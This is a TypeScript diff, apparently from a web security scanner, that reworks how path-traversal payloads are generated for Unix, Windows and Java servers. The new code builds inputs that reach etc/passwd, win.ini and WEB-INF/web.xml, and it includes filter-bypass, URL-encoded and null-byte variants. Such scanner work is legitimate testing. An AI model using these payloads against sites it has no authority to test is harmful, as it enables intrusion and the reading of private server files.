@@ -1,44 +1,108 @@
 export type ServerKind = 'java' | 'windows' | 'other';
 
-const FILE_NAME =
-  /^(?:file\w*|f|path\w*|page|doc\w*|document|folder|dir\w*|root|template|tpl|include|inc|load|read|view|content|target|src|source|lang\w*|locale|theme|style|skin|layout|module|mod|conf\w*|img|image|pic\w*|photo|download|attachment|resource|res|name|report|log|show|display|url|uri|site|pdf|text|data|item|body|section|cat|prefix|open)$/i;
-
-/** True when a parameter's name or example says that it names a file. */
-export function looksLikeFile(name: string, example: string): boolean {
-  return (
-    FILE_NAME.test(name) ||
-    /file|path|(?:^|[_-])(?:doc|page|dir|img)(?:$|[_-])/i.test(name) ||
-    /[\w-]\.[a-z][a-z0-9]{1,4}$/i.test(example) ||
-    /^\.{0,2}\/[\w./-]+$/.test(example)
-  );
+/** What is known of the place a file name goes to. */
+export interface TraversalPlace {
+  /** The value that the site itself sends. */
+  readonly example: string;
+  /** Path of the page that takes the parameter. */
+  readonly pagePath: string;
+  readonly server: ServerKind;
+  /** Path of the Java web application on its server, `/` for the root; null when unknown. */
+  readonly contextPath: string | null;
+  /** Path of a static file of the site whose text is known. */
+  readonly knownPath: string | null;
 }
 
-const UP = '../'.repeat(8);
+const PAYLOADS_MAX = 10;
+const PASSWD = 'etc/passwd';
+const WIN_INI = 'windows/win.ini';
+const WEB_XML = 'WEB-INF/web.xml';
+const up = (steps: number, step = '../') => step.repeat(steps);
+/** More steps than any folder is deep: a file system stays at its root. */
+const DEEP = 12;
 
 /**
- * Values that lead out of the folder, most promising first: plain, absolute, past filters that remove `../` once, after a
- * prefix or before an ending that the code demands, with other separators and encodings.
- *
- * @param knownPath path of a static file of the site
+ * Values that lead out of the folder, most promising first, each a way that the ones before it do not cover. The first one, with a
+ * slash and then up, serves code that takes a full path, that puts a folder in front, and that puts one without its slash.
  */
-export function traversalPayloads(example: string, server: ServerKind, knownPath: string | null): string[] {
+export function traversalPayloads(place: TraversalPlace): string[] {
+  const { example, server } = place;
+  const isWindows = server === 'windows' || /^[a-z]:[\\/]/i.test(example);
+  const payloads = isWindows ? windowsPayloads() : server === 'java' ? javaPayloads(place) : unixPayloads(place);
+  const folder = example.slice(0, example.lastIndexOf('/') + 1);
+  // Code that demands a certain folder in front, a full path or a URL is met halfway.
+  if (/^file:/i.test(example)) payloads.unshift(isWindows ? 'file:///c:/windows/win.ini' : `file:///${PASSWD}`);
+  else if (/^[^/].*\//.test(folder)) payloads.unshift(folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
+  else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
+  return [...new Set(payloads)].slice(0, PAYLOADS_MAX);
+}
+
+function unixPayloads({ example, knownPath }: TraversalPlace): string[] {
   const ending = /\.[a-z][a-z0-9]{1,4}$/i.exec(example)?.[0] ?? '';
-  const folder = example.includes('/') ? example.slice(0, example.lastIndexOf('/') + 1) : '';
-  const unix = 'etc/passwd';
-  const payloads = [UP + unix, `/${unix}`];
-  if (server === 'java')
-    payloads.push('/WEB-INF/web.xml', 'WEB-INF/web.xml', '../WEB-INF/web.xml', '../../WEB-INF/web.xml');
-  if (server === 'windows')
-    payloads.unshift(`${'..\\'.repeat(8)}windows\\win.ini`, `${UP}windows/win.ini`, 'c:\\windows\\win.ini');
-  if (folder !== '' && folder !== '/') payloads.push(folder + UP + unix);
-  payloads.push('....//'.repeat(8) + unix, `/${UP}${unix}`);
-  if (ending !== '') payloads.push(`${UP}${unix}\u0000${ending}`);
-  if (knownPath !== null) payloads.push(`..${knownPath}`, `../..${knownPath}`);
-  payloads.push(
-    `file:///${unix}`,
-    '..%2f'.repeat(8) + unix,
-    '..\\'.repeat(8) + unix.replace('/', '\\'),
-    '%2e%2e%2f'.repeat(8) + unix,
-  );
-  return [...new Set(payloads)];
+  return [
+    `/${up(DEEP)}${PASSWD}`,
+    up(DEEP) + PASSWD,
+    // What is left when a filter has removed `../` once.
+    `/${up(DEEP, '....//')}${PASSWD}`,
+    `/${PASSWD}`,
+    ...(ending === '' ? [] : [`/${up(DEEP)}${PASSWD}\u0000${ending}`]),
+    `file:///${PASSWD}`,
+    `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
+    ...(knownPath === null ? [] : [`..${knownPath}`, `../..${knownPath}`]),
+  ];
+}
+
+function windowsPayloads(): string[] {
+  const backslashes = WIN_INI.replace('/', '\\');
+  return [
+    `/${up(DEEP)}${WIN_INI}`,
+    `\\${up(DEEP, '..\\')}${backslashes}`,
+    `c:\\${backslashes}`,
+    up(DEEP, '..\\') + backslashes,
+    `/${up(DEEP, '....//')}${WIN_INI}`,
+    `%2f${up(DEEP, '%2e%2e%2f')}${WIN_INI.replace('/', '%2f')}`,
+    'file:///c:/windows/win.ini',
+    // A banner of ASP.NET does not rule out another system.
+    `/${up(DEEP)}${PASSWD}`,
+  ];
+}
+
+/**
+ * A web application reads its own resources by paths that start at its root and must not lead above it (Servlet specification,
+ * section 4.6): the number of steps has to be right. The page's own folder tells it, where files lie beside the pages.
+ */
+function javaPayloads(place: TraversalPlace): string[] {
+  const steps = stepsToContext(place);
+  const fromFolder = [steps, 1].map((count) => `/${up(count)}${WEB_XML}`);
+  const file = `/${up(DEEP)}${PASSWD}`;
+  const payloads = [
+    file,
+    fromFolder[0] ?? '',
+    `/${up(DEEP, '....//')}${PASSWD}`,
+    `/${up(steps, '....//')}${WEB_XML}`,
+    `file:///${PASSWD}`,
+    `/${WEB_XML}`,
+    `/${PASSWD}`,
+    fromFolder[1] ?? '',
+    `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
+  ];
+  return isPathInApplication(place) ? [`/${WEB_XML}`, ...payloads] : payloads;
+}
+
+function folders(path: string): string[] {
+  return path.split('/').slice(1, -1);
+}
+
+function stepsToContext({ pagePath, contextPath }: TraversalPlace): number {
+  const depth = folders(pagePath).length;
+  // Where nothing tells, an application of several folders more often has a name than not.
+  const context = contextPath === null ? (depth > 1 ? 1 : 0) : folders(`${contextPath.replace(/\/$/, '')}/`).length;
+  return Math.min(Math.max(depth - context, 0), DEEP);
+}
+
+/** True when the value the site sends is a path from the root of the application, as the page's own address shows. */
+function isPathInApplication({ example, pagePath }: TraversalPlace): boolean {
+  const own = `/${folders(pagePath).join('/')}/`;
+  const given = folders(example.replaceAll('\\', '/'));
+  return example.startsWith('/') && given.length > 0 && own.endsWith(`/${given.join('/')}/`);
 }
